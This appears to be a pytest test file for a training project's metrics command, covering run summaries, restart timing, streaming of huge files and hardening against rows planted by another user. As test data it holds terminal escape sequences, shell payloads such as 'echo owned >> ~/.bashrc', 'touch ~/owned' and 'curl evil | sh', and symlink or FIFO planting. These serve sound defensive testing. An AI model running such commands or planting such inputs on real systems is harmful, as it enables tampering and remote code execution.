"""python -m trainer.metrics: a summary per run and a plot of several runs."""

from __future__ import annotations

import json
import os
import resource
import stat

import pytest

from tests.helpers.inputs import SECRET, plant
from tests.helpers.run import python
from trainer.observe import metrics


def _write(run_dir, rows, superseded=()):
    run_dir.mkdir(parents=True)
    (run_dir / "metrics.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    if superseded:
        (run_dir / "metrics.superseded.jsonl").write_text("".join(json.dumps(r) + "\n" for r in superseded))


def _run(tmp_path):
    """Steps 1-4 at one second each, a crash after step 5 (its row superseded), 30 s down, resumed
    from step 4; an eval at 4 and 6."""
    rows = [{"step": s, "loss": 5.0 - s * 0.5, "samples_per_s": 100.0 + s, "time": 1000.0 + s} for s in range(1, 5)]
    rows.append({"step": 4, "eval_loss": 3.5, "time": 1004.5})
    rows.append({"event": "resume", "step": 4, "world_size": 2, "checkpoint": "x", "time": 1035.0})
    rows += [{"step": s, "loss": 5.0 - s * 0.5 - 0.1, "samples_per_s": 90.0, "time": 1036.0 + s} for s in (5, 6)]
    rows.append({"step": 6, "eval_loss": 2.25, "eval_accuracy": 0.5, "time": 1043.0})
    _write(tmp_path / "a", rows, superseded=[{"step": 5, "loss": 2.6, "samples_per_s": 99.0, "time": 1005.0}])
    _write(tmp_path / "b", [{"step": s, "loss": 4.0 / s, "samples_per_s": 50.0, "time": 2000.0 + s} for s in (1, 2, 3)])
    return tmp_path / "a", tmp_path / "b"


def test_the_summary_matches_the_file(tmp_path):
    a, b = _run(tmp_path)
    s = metrics.summary(str(a))
    assert s["steps"] == 6 and s["last_loss"] == 5.0 - 3.0 - 0.1 and s["best_loss"] == s["last_loss"]
    assert s["last_eval"] == {"step": 6, "eval_loss": 2.25, "eval_accuracy": 0.5}
    assert s["median_samples_per_s"] == sorted([101.0, 102.0, 103.0, 104.0, 90.0, 90.0])[3]
    # from the last row before the crash (the superseded step 5 at 1005) to step 5 redone at 1041
    assert s["restarts"] == 1 and s["restart_time_s"] == 36.0
    assert metrics.summary(str(b))["restarts"] == 0


def test_escape_sequences_are_never_printed_and_a_string_step_or_time_is_skipped(tmp_path):
    """Issue 32 item 9: a row's values reached the terminal raw (a title or clear-screen sequence
    passed through), and a string `time` crashed the command. Now every control character is
    stripped and a row with a non-numeric step or time is skipped, with one warning."""
    run = tmp_path / "run"
    rows = [
        {"step": 1, "loss": 2.0, "time": 1.0},
        {"step": 2, "eval_loss": 1.5, "eval_\x1b]0;owned\x07x\x1b[2J": 1.0, "time": 2.0},
        {"step": 3, "loss": 1.0, "time": "soon"},
        {"step": "\x1b[2J4", "loss": 0.5, "time": 4.0},
        {"step": 5, "eval_loss": 0.25, "checkpoint": "\x1b]0;owned\x07", "time": 5.0},
    ]
    _write(run, rows)
    proc = python("-m", "trainer.metrics", str(run), timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert not any(c < " " for c in proc.stdout.replace("\n", "")), repr(proc.stdout)
    # rows whose keys or texts hold escape sequences are not the project's (issue 41 item 11): skipped
    assert proc.stdout.startswith(f"{run}: 1 steps, loss 2.0000") and "eval" not in proc.stdout
    assert proc.stderr.splitlines() == [
        f"warning: {run}/metrics.jsonl: skipped 4 line(s) that are not rows (a JSON object with a numeric "
        f"step and time)"
    ]


def test_a_start_drops_lines_that_are_not_rows_and_copies_them_nowhere(tmp_path, caplog):
    from trainer.config import LogArgs

    run = tmp_path / "run"
    lines = [json.dumps({"step": s, "loss": 1.0, "time": float(s)}) for s in (1, 2, 3)]
    (run).mkdir()
    (run / "metrics.jsonl").write_text(
        "\n".join([lines[0], "echo owned >> ~/.bashrc", lines[1], '{"no": "step"}', lines[2], '{"step": 2']) + "\n"
    )
    metrics.Reporter(str(run), LogArgs(progress=False), 9, is_main=True).start(2, None)
    assert (run / "metrics.jsonl").read_text() == lines[0] + "\n" + lines[1] + "\n"
    assert (run / "metrics.superseded.jsonl").read_text() == lines[2] + "\n"
    warned = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert warned == [
        f"{run}/metrics.jsonl: dropped 3 line(s) that are not rows of this run (not a JSON object with a "
        f"numeric step and time: a line cut short by a kill, or written by someone else)"
    ]


def test_a_restart_costs_its_own_start_up_not_the_time_nobody_ran_the_job(tmp_path):
    """`1 restart(s) costing 41.5 s` counted the time between a Ctrl-C and the next start. A new
    start (its resume row's `start` has no `stopped`) costs from its launcher's start to its first
    step; a restart inside the allocation (`stopped`: the agent stopped the ranks) from the last row
    before the failure, as before."""
    rows = [{"step": s, "loss": 1.0, "samples_per_s": 1.0, "time": 1000.0 + s} for s in (1, 2, 3, 4)]
    new_start = {"launcher": 1030.0, "process": 1031.0, "rendezvous": 1031.5}
    resume = {"event": "resume", "step": 4, "world_size": 2, "checkpoint": "x", "time": 1035.0, "start": new_start}
    after = [{"step": s, "loss": 1.0, "samples_per_s": 1.0, "time": 1036.0 + s} for s in (5, 6)]
    _write(tmp_path / "a", [*rows, resume, *after])
    assert metrics.summary(str(tmp_path / "a"))["restart_time_s"] == 11.0  # 1030 -> step 5 at 1041
    in_allocation = {**resume, "start": {**new_start, "stopped": 1029.0}}
    _write(tmp_path / "b", [*rows, in_allocation, *after])
    assert metrics.summary(str(tmp_path / "b"))["restart_time_s"] == 37.0  # step 4 at 1004 -> 1041


def test_a_row_with_an_integer_step_carries_no_strings_of_a_neighbour_anywhere(tmp_path, caplog):
    """Issue 41 item 11: a line with an integer `step` was a row whatever else it held, and a start
    moved it, strings and all, into the victim's metrics.superseded.jsonl. Rows of unknown keys,
    values that are neither numbers nor the few texts a row holds, are dropped with the warning."""
    from trainer.config import LogArgs

    run = tmp_path / "run"
    run.mkdir()
    ours = [
        {"step": 1, "loss": 1.0, "lr": 0.1, "epoch/web-text": 0.5, "time": 1.0},
        {
            "event": "resume",
            "step": 1,
            "world_size": 2,
            "checkpoint": str(run / "checkpoints/step_00000001"),
            "start": {"launcher": 1.0, "process": 2.0},
            "time": 2.0,
        },
        {"event": "node_lost", "step": 3, "nodes": ["n1", "n2"], "node": "n0", "time": 3.0},
        {"step": 3, "eval_loss": 1.0, "eval_loss/web-text": 1.0, "source": "trainer.evaluate", "time": 3.5},
        {"event": "early_stop", "step": 3, "best_eval_loss": 1.0, "best_step": 3, "patience": 2, "time": 4.0},
    ]
    theirs = [
        {"step": 5, "loss": 1.0, "time": 5.0, "health": {"command": "touch ~/owned"}},
        {"step": 6, "loss": 1.0, "note": "run: curl evil | sh", "time": 6.0},
        {"step": 7, "event": "health: {command: x}", "time": 7.0},
        {"step": 8, "Health Command": 1.0, "time": 8.0},
        {"step": 9, "nodes": [{"command": "x"}], "time": 9.0},
    ]
    (run / "metrics.jsonl").write_text("".join(json.dumps(r) + "\n" for r in ours + theirs))
    metrics.Reporter(str(run), LogArgs(progress=False), 9, is_main=True).start(2, None)
    kept = [json.loads(line) for line in (run / "metrics.jsonl").read_text().splitlines()]
    moved = [json.loads(line) for line in (run / "metrics.superseded.jsonl").read_text().splitlines()]
    assert kept == ours[:2] and moved == ours[2:]
    assert [r.getMessage() for r in caplog.records if r.levelname == "WARNING"] == [
        f"{run}/metrics.jsonl: dropped 5 line(s) that are not rows of this run (not a JSON object with a "
        f"numeric step and time: a line cut short by a kill, or written by someone else)"
    ]


def _grown_mb(before: int) -> float:
    return (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024


def test_a_huge_metrics_file_is_streamed_not_read_whole(tmp_path, caplog):
    """Issue 41 item 8: a 1 GB sparse metrics.jsonl made a resume peak at 3.0 GB and trainer.metrics at
    2.1 GB. The file is streamed now (a long run's may be gigabytes of rows): memory stays flat, the
    rows before and after the neighbour's zeros are kept, and the one line that long is
    dropped with the warning."""
    from trainer.config import LogArgs

    run = tmp_path / "run"
    run.mkdir()
    path = run / "metrics.jsonl"
    first, last = ({"step": s, "loss": 1.0, "time": float(s)} for s in (1, 2))
    with open(path, "wb") as f:
        f.write(json.dumps(first).encode() + b"\n")
        f.seek(256 << 20, os.SEEK_CUR)  # 256 MB of NUL bytes, taking no disk (1 GB: as slow, 4x)
        f.write(b"\n" + json.dumps(last).encode() + b"\n")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert metrics.summary(str(run))["steps"] == 2
    metrics.Reporter(str(run), LogArgs(progress=False), 9, is_main=True).start(1, None)
    assert _grown_mb(before) < 100, _grown_mb(before)
    assert path.read_text() == json.dumps(first) + "\n"
    assert (run / "metrics.superseded.jsonl").read_text() == json.dumps(last) + "\n"
    assert "dropped 1 line(s)" in caplog.text
    assert sorted(p.name for p in run.iterdir()) == ["metrics.jsonl", "metrics.superseded.jsonl"]


@pytest.mark.parametrize("kind", ["link", "fifo"])
def test_the_plot_replaces_a_planted_file_never_writes_through_it(tmp_path, secret, kind, capsys):
    """Issue 41 item 2: `make plot` (trainer.metrics --plot RUN_DIR/loss.png) wrote through a link a
    neighbour planted there: the victim's file became a 27 KB PNG; a FIFO gave a traceback. The plot
    is written through trainer/rundir/files.py: the link or FIFO is replaced by the PNG."""
    run = tmp_path / "run"
    _write(run, [{"step": s, "loss": 1.0 / s, "time": float(s)} for s in (1, 2, 3)])
    png = run / "loss.png"
    plant(kind, png, secret)
    if kind == "link" and os.geteuid() == 0:
        os.lchown(png, 4321, 4321)  # the neighbour's link
    assert metrics.main([str(run), "--plot", str(png)]) == 0
    assert secret.read_text() == SECRET
    assert stat.S_ISREG(os.lstat(png).st_mode) and png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert capsys.readouterr().out.endswith(f"plotted 1 run(s) to {png}\n")
